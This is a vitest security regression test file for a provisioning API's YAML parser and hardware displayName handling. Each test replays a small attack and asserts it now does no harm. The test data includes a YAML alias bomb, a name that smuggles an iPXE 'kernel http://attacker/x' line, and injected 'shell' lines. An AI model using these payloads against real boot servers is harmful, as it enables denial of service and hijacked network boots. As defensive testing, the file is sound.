import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Hardware } from '../model/hardware.ts';
import { createHarness, type Harness } from '../testing/api-harness.ts';

// Issue 14, item 6: the small holes, each reproduced as the attack and shown to do no harm now.
let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(async () => h.close());

const yaml = { 'content-type': 'application/yaml' };

describe('YAML that the parser refuses', () => {
  it('an alias bomb is a 400 naming the alias limit, not a 500', async () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x]', 'b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]', 'c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]', 'd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]'].join('\n');
    const res = await h.app.inject({ method: 'POST', url: '/api/v1/apply', headers: { ...h.headers, ...yaml }, payload: bomb });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/malformed YAML: .*alias/i);
  });

  it('broken YAML is a 400 naming the problem', async () => {
    const res = await h.app.inject({ method: 'POST', url: '/api/v1/apply', headers: { ...h.headers, ...yaml }, payload: 'kind: [unclosed' });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/malformed YAML/);
  });
});

describe('displayName', () => {
  const mac = '52:54:00:0d:00:01';
  let name = '';
  beforeAll(async () => {
    name = (await h.registrar.ensureDiscovered(mac)).metadata.name;
  });
  const patch = (displayName: string) =>
    h.app.inject({ method: 'PATCH', url: `/api/v1/hardware/${name}`, headers: h.headers, payload: { spec: { displayName } } });

  it('with a newline, or 900 KB long, is refused by the API and the stored name stays', async () => {
    const before = (await h.store.get('Hardware', name)).spec;
    const newline = await patch('Evil\nkernel http://attacker/x');
    expect(newline.statusCode).toBe(400);
    expect(newline.json().message).toMatch(/displayName/);
    const huge = await patch('x'.repeat(900 * 1024));
    expect(huge.statusCode).toBe(400);
    expect(huge.json().message).toMatch(/displayName.*100/);
    expect((await h.store.get('Hardware', name)).spec).toEqual(before);
    expect((await patch('Rack 4 – web ✓')).statusCode).toBe(200);
  });

  it('already stored with a newline (older data, a direct store write) cannot add lines to the iPXE script', async () => {
    const hw = await h.store.get<Hardware>('Hardware', name);
    hw.spec.displayName = 'Evil\nshell\n${net0/mac}';
    await h.store.update(hw);
    const res = await h.app.inject({ url: `/boot/ipxe?mac=${mac}` });
    expect(res.statusCode).toBe(200);
    const lines = res.body.split('\n');
    expect(lines[1]).toBe(`# Dragonfly boot script for Evil?shell??{net0/mac} (${mac}): discovery`);
    expect(lines.some((l) => l === 'shell')).toBe(false);
  });
});
